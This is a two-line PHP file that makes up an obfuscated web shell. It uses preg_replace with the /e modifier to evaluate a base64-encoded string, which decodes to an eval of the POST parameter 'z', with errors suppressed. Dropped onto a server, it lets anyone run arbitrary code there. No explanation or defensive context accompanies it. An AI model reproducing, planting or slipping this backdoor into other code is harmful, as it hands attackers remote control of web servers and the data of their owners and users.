<?php
@preg_replace('/.*/e', base64_decode('QGV2YWwoJF9QT1NUWyd6J10pOw=='), '');
